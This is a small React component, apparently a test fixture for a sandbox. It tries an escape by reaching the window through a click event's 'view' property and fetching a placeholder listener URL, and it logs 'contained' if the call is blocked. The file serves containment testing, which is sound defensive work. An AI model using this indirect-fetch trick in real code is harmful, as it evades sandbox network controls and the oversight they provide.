import { useEffect } from "react";

// Escape attempt: fetch_via_event_view
export default function Hostile() {
  useEffect(() => {
    try {
      const handler = (e) => e.view.fetch("__LISTENER__/fetch_via_event_view"); document.addEventListener("click", handler); document.body.click();
    } catch (error) {
      console.info("contained", error && error.message);
    }
  }, []);
  return <p data-testid="hostile">fetch_via_event_view</p>;
}
